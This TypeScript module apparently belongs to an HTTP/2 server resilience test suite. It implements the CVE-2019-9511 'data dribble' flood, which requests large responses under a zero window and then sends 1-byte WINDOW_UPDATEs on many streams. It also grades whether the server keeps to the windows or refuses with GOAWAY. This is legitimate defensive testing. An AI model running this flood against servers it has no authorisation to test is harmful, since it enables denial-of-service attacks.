/**
 * CVE-2019-9511: large responses requested with a zero window, which is then opened one byte at a time on
 * every stream, so the target must cut, schedule and frame its data one byte per DATA frame.
 */
import { Setting, windowUpdateFrame } from '../../h2/frames.ts';
import { Engagement } from '../engagement.ts';
import { headersFrame, requestBlock } from '../frames.ts';
import { answer, floodRefusal, notDelivered } from './answers.ts';
import { definePattern } from './types.ts';

export default definePattern({
  id: 'data-dribble',
  title: 'Data dribble',
  cve: 'CVE-2019-9511',
  year: 2019,
  summary: 'large responses on many streams with INITIAL_WINDOW_SIZE 0, then 1-byte WINDOW_UPDATEs round after round',
  expected: '1-byte DATA frames exactly as the windows allow (§6.9), at bounded cost, or GOAWAY ENHANCE_YOUR_CALM (§10.5)',
  rfc: 'RFC 9113 §6.9, §10.5',
  defaults: { streams: 50, rounds: 200 },
  scaled: ['rounds'],
  async run(ctx, p) {
    const e = new Engagement(ctx, '1-byte WINDOW_UPDATEs', p.streams * p.rounds);
    const peer = await e.open({
      handshake: true,
      settings: [
        [Setting.ENABLE_PUSH, 0],
        [Setting.INITIAL_WINDOW_SIZE, 0],
      ],
    });
    if (peer !== null) {
      const streams = Math.min(p.streams, peer.settings.maxConcurrentStreams ?? p.streams);
      e.unitsPlanned = streams * p.rounds;
      const block = requestBlock({ method: 'GET', authority: ctx.target.authority, path: ctx.paths.large });
      // the requests are the setup; the window updates are the attack's units
      const requests = await peer.writeUnits(streams, (i) => headersFrame(2 * i + 1, block, { endStream: true, endHeaders: true }), ctx.budget);
      if (requests.stoppedBy !== 'done') e.sent({ units: 0, stoppedBy: requests.stoppedBy });
      else e.sent(await peer.writeUnits(e.unitsPlanned, (i) => windowUpdateFrame(2 * (i % streams) + 1, 1), ctx.budget));
    }
    return e.finish();
  },
  judge(o) {
    const none = notDelivered(o);
    if (none !== null) return none;
    if (o.dataBytes > o.unitsSent) {
      return answer(
        'unexpected',
        o,
        `sent ${o.dataBytes.toLocaleString('en-US')} B of DATA where the windows allowed ${o.unitsSent.toLocaleString('en-US')} B (§6.9.1)`,
      );
    }
    return floodRefusal(o) ?? answer('expected', o, 'kept to the 1-byte windows');
  },
});
